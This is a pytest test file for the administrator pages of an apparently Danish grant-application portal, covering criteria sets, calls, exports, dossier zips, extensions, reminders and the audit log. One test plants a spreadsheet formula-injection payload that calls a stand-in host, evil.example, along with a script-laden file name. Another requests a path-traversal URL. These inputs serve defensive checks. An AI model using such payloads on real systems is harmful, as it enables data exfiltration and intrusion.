"""Administrator pages: criteria sets, calls, exports, dossier, extensions, reminders, outbox,
audit log."""

from __future__ import annotations

import io
import subprocess
import zipfile
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from portal.applications import services as applications
from portal.mail import list_outbox
from portal.models import (
    AuditEvent,
    Call,
    CriteriaSet,
    CriteriaSetStatus,
    Criterion,
    DeadlineExtension,
    Role,
    utcnow,
)
from tests.conftest import csrf_token, login
from tests.portal.helpers import complete_application, open_call, org_id, pdf_bytes

NEXT = utcnow().year + 1  # a year whose March lies ahead


@pytest.fixture()
def admin_client(client, make_user):
    admin = make_user(Role.ADMIN, "STAR")
    login(client, admin.email)
    return client


def _token(client, url: str = "/admin/kriterier") -> str:
    return csrf_token(client.get(url).get_data(as_text=True))


def test_non_admin_gets_403(client, make_user) -> None:
    login(client, make_user(Role.SIGNATORY, "HK").email)
    response = client.get("/admin/runder")
    assert response.status_code == 403 and "Ingen adgang" in response.get_data(as_text=True)


def test_criteria_set_created_edited_published_then_frozen(admin_client, db: Session) -> None:
    admin_client.post("/admin/kriterier/ny", data={"csrf_token": _token(admin_client)})
    cset = db.scalar(select(CriteriaSet))
    assert cset.status == CriteriaSetStatus.DRAFT and len(cset.criteria) == 6
    first = cset.criteria[0]
    page = admin_client.get(f"/admin/kriterium/{first.id}").get_data(as_text=True)
    bad = admin_client.post(
        f"/admin/kriterium/{first.id}",
        data={
            "csrf_token": csrf_token(page),
            "title": "Kapacitet",
            "guidance": "g",
            "evidence": "e",
            "threshold": "7",
            "weight": "1",
            **{f"anchor_{i}": f"trin {i}" for i in range(5)},
        },
    )
    assert "Tærsklen skal ligge på skalaen 0–4." in bad.get_data(as_text=True)
    admin_client.post(
        f"/admin/kriterium/{first.id}",
        data={
            "csrf_token": csrf_token(page),
            "title": "Kapacitet (ny)",
            "guidance": "g",
            "evidence": "e",
            "threshold": "3",
            "weight": "2",
            **{f"anchor_{i}": f"trin {i}" for i in range(5)},
        },
    )
    db.expire_all()
    assert db.get(Criterion, first.id).title == "Kapacitet (ny)"
    admin_client.post(
        f"/admin/kriterier/{cset.id}/offentliggoer", data={"csrf_token": _token(admin_client)}
    )
    db.expire_all()
    assert db.get(CriteriaSet, cset.id).status == CriteriaSetStatus.PUBLISHED
    frozen = admin_client.get(f"/admin/kriterium/{first.id}", follow_redirects=True)
    assert "kan ikke ændres. Lav en ny version." in frozen.get_data(as_text=True)
    admin_client.post(
        f"/admin/kriterier/{cset.id}/ny-version", data={"csrf_token": _token(admin_client)}
    )
    versions = db.scalars(select(CriteriaSet.version).order_by(CriteriaSet.version)).all()
    assert versions == [1, 2]


def test_create_call_from_form_with_policy_defaults(admin_client, db: Session) -> None:
    admin_client.post("/admin/kriterier/ny", data={"csrf_token": _token(admin_client)})
    cset = db.scalar(select(CriteriaSet))
    admin_client.post(
        f"/admin/kriterier/{cset.id}/offentliggoer", data={"csrf_token": _token(admin_client)}
    )
    page = admin_client.get("/admin/runder/ny").get_data(as_text=True)
    assert 'value="37500"' in page and 'value="25,0"' in page
    form = {
        "csrf_token": csrf_token(page),
        "title": f"Runde {NEXT}",
        "criteria_set_id": str(cset.id),
        "opens_at": f"{NEXT}-01-05T09:00",
        "deadline_at": f"{NEXT}-03-01T12:00",
        "dialogue_meeting_on": f"{NEXT}-03-15",
        "page_limit": "10",
        "page_limit_with_annexes": "20",
        "target_volume": "37500",
        "min_share_percent": "25",
        "years": "4",
        "national_inflow": "150000",
    }
    wrong = admin_client.post(
        "/admin/runder/ny", data={**form, "deadline_at": f"{NEXT}-01-01T12:00"}
    )
    assert "Fristen skal ligge efter åbningstidspunktet." in wrong.get_data(as_text=True)
    past = admin_client.post(
        "/admin/runder/ny",
        data={**form, "opens_at": "2020-01-05T09:00", "deadline_at": "2020-03-01T12:00"},
    )
    past_page = past.get_data(as_text=True)
    assert "Fristen ligger i fortiden." in past_page and f"Runde {NEXT}" in past_page
    assert db.scalar(select(Call)) is None
    response = admin_client.post("/admin/runder/ny", data=form, follow_redirects=True)
    assert "Ansøgningsrunden er oprettet" in response.get_data(as_text=True)
    call = db.scalar(select(Call))
    copenhagen = datetime(NEXT, 3, 1, 12, 0, tzinfo=ZoneInfo("Europe/Copenhagen"))
    assert call.deadline_at == copenhagen and call.min_share == 0.25
    assert call.target_volume == 37500 and call.years == 4


def test_exports_hold_submitted_applications(admin_client, db: Session, make_user) -> None:
    call = open_call(db)
    signer = make_user(Role.SIGNATORY, "HK")
    app = complete_application(db, call, signer)
    version = applications.submit(db, signer, app, None)
    db.commit()
    csv_text = admin_client.get(f"/admin/runder/{call.id}/eksport.csv").data.decode("utf-8-sig")
    assert csv_text.splitlines()[0].startswith("A-kasse;Kort id;CVR")
    assert "HK Danmark A-kasse" in csv_text and version.content_hash in csv_text
    xlsx = admin_client.get(f"/admin/runder/{call.id}/eksport.xlsx").data
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert sheet["A2"].value == "HK Danmark A-kasse" and sheet["G2"].value == version.content_hash


def test_dossier_zip_has_answers_receipt_and_attachments(
    admin_client, app, db: Session, make_user
) -> None:
    call = open_call(db)
    signer = make_user(Role.SIGNATORY, "HK")
    application = complete_application(db, call, signer)
    from portal.applications import uploads

    data = pdf_bytes(1)
    stored = uploads.store(app.config["UPLOAD_DIR"], data)
    applications.add_attachment(
        db,
        signer,
        application,
        applications.NewAttachment(
            filename="bilag.pdf",
            stored_name=stored,
            size_bytes=len(data),
            pages=1,
            sha256="a" * 64,
            criterion_id=None,
        ),
        10**8,
    )
    version = applications.submit(db, signer, application, None)
    with app.app_context():
        from portal.applications.receipts import issue_receipt

        issue_receipt(db, version)
    db.commit()
    archive = zipfile.ZipFile(
        io.BytesIO(admin_client.get(f"/admin/ansoegning/{application.id}/dossier.zip").data)
    )
    names = sorted(archive.namelist())
    assert "hk-version-1/ansoegning.pdf" in names
    assert "hk-version-1/kvittering-hk-version-1.pdf" in names
    assert any(n.endswith("bilag.pdf") and "/bilag/" in n for n in names)
    answers = archive.read("hk-version-1/ansoegning.pdf")
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=answers, capture_output=True, check=True
    ).stdout.decode()
    assert "Kan indgå i forsøget (uden frikommuner)" in " ".join(text.split())


def _post_extension(client, db: Session, call, deadline_at: str, reason: str) -> str:
    """Post the extension form on the call page as a browser would; the page text after."""
    page = client.get(f"/admin/runder/{call.id}").get_data(as_text=True)
    response = client.post(
        f"/admin/runder/{call.id}",
        data={
            "csrf_token": csrf_token(page),
            "organisation_id": str(org_id(db, "HK")),
            "deadline_at": deadline_at,
            "reason": reason,
        },
        follow_redirects=True,
    )
    return response.get_data(as_text=True)


def test_extension_granted_from_call_page_is_logged(admin_client, db: Session) -> None:
    call = open_call(db)
    html = _post_extension(admin_client, db, call, "2099-01-01T12:00", "IT-nedbrud")
    assert "Fristforlængelsen er givet og logget." in html
    ext = db.scalar(select(DeadlineExtension))
    assert ext.reason == "IT-nedbrud"
    assert db.scalar(select(AuditEvent).where(AuditEvent.action == "call.extension_granted"))


def test_extension_form_errors_stay_next_to_fields(admin_client, db: Session) -> None:
    call = open_call(db)
    html = _post_extension(admin_client, db, call, "ikke-en-dato", "")
    assert "Skriv en begrundelse." in html and 'id="reason-error"' in html
    assert db.scalar(select(DeadlineExtension)) is None


def test_extension_not_after_the_deadline_is_refused_at_its_field(
    admin_client, db: Session
) -> None:
    call = open_call(db)
    html = _post_extension(admin_client, db, call, "2020-01-01T12:00", "Strømsvigt hos a-kassen")
    field = html.split('id="deadline_at-error"', 1)
    assert len(field) == 2, "the refusal is not at the deadline field"
    assert "Den nye frist skal ligge efter rundens frist." in field[1][:400]
    assert "Strømsvigt hos a-kassen" in html  # the reason is kept
    assert 'id="error-summary"' in html
    assert db.scalar(select(DeadlineExtension)) is None


def test_reminders_go_to_draft_holders_in_outbox(admin_client, app, db: Session, make_user) -> None:
    call = open_call(db)
    drafter = make_user(Role.DRAFTER, "HK")
    complete_application(db, call, drafter)
    page = admin_client.get(f"/admin/runder/{call.id}").get_data(as_text=True)
    admin_client.post(
        f"/admin/runder/{call.id}/paamindelser", data={"csrf_token": csrf_token(page)}
    )
    [item] = list_outbox(app.config["OUTBOX_DIR"])
    assert "Påmindelse" in item.subject
    assert drafter.email in item.to and "karin@hk.example.dk" in item.to
    listing = admin_client.get("/admin/udbakke").get_data(as_text=True)
    assert "Påmindelse" in listing
    message = admin_client.get(f"/admin/udbakke/{item.name}").get_data(as_text=True)
    assert "er endnu ikke indsendt" in message
    assert admin_client.get("/admin/udbakke/..%2Fetc").status_code == 404


def test_reminders_name_the_funds_they_could_not_reach(
    admin_client, app, db: Session, make_user
) -> None:
    call = open_call(db)
    complete_application(db, call, make_user(Role.DRAFTER, "HK"))
    silent_user = make_user(Role.DRAFTER, "3F")
    silent = complete_application(db, call, silent_user)
    silent.contact_email = ""
    silent_user.is_active = False
    db.commit()
    page = admin_client.get(f"/admin/runder/{call.id}").get_data(as_text=True)
    reply = admin_client.post(
        f"/admin/runder/{call.id}/paamindelser",
        data={"csrf_token": csrf_token(page)},
        follow_redirects=True,
    ).get_data(as_text=True)
    assert "Påmindelse sendt til 2 modtagere med en kladde." in reply
    assert "Ikke sendt til 3F A-kasse (Fagligt Fælles Forbunds A-kasse, 3FA): a-kassen har" in reply
    assert len(list_outbox(app.config["OUTBOX_DIR"])) == 1


def test_audit_page_reports_intact_chain(admin_client) -> None:
    page = admin_client.get("/admin/revisionslog").get_data(as_text=True)
    assert "Logget ind" in page and "Kontrollér hele kæden" in page
    checked = admin_client.get("/admin/revisionslog?kontrol=1").get_data(as_text=True)
    assert "Kæden er ubrudt" in checked


def test_exports_neutralise_formulas_and_zip_names(
    admin_client, app, db: Session, make_user
) -> None:
    from portal.calls.exports import safe_member_name

    call = open_call(db)
    signer = make_user(Role.SIGNATORY, "HK")
    application = complete_application(db, call, signer)
    application.contact_name = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    applications.submit(db, signer, application, None)
    db.commit()
    csv_text = admin_client.get(f"/admin/runder/{call.id}/eksport.csv").data.decode("utf-8-sig")
    assert ";\"'=HYPERLINK(" in csv_text
    sheet = load_workbook(
        io.BytesIO(admin_client.get(f"/admin/runder/{call.id}/eksport.xlsx").data)
    ).active
    assert sheet["L2"].data_type == "s" and sheet["L2"].value.startswith("'=")
    assert safe_member_name("1-=evil<script>;:*?.pdf") == "1-=evil_script_;___.pdf"


def test_publishing_an_empty_criteria_set_says_why(admin_client, db: Session) -> None:
    admin_client.post("/admin/kriterier/ny", data={"csrf_token": _token(admin_client)})
    cset = db.scalar(select(CriteriaSet))
    for criterion in list(cset.criteria):
        db.delete(criterion)
    db.commit()
    url = f"/admin/kriterier/{cset.id}"
    response = admin_client.post(
        f"{url}/offentliggoer",
        data={"csrf_token": _token(admin_client, url)},
        headers={"Referer": f"http://localhost{url}"},
        follow_redirects=True,
    )
    text = response.get_data(as_text=True)
    assert "Et kriteriesæt skal have mindst ét kriterium." in text
    assert "allerede offentliggjort" not in text
    db.expire_all()
    assert db.get(CriteriaSet, cset.id).status == CriteriaSetStatus.DRAFT
